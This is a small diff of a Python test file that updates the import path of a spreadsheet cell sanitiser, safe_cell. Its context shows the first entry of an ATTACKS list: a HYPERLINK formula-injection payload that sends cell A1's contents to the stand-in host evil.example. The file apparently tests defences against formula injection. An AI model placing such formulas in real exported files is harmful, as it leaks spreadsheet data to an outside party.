@@ -8,7 +8,7 @@ import unicodedata
 
 import pytest
 
-from shared.spreadsheet import safe_cell
+from shared.core.spreadsheet import safe_cell
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?q="&A1,"Klicka här")',
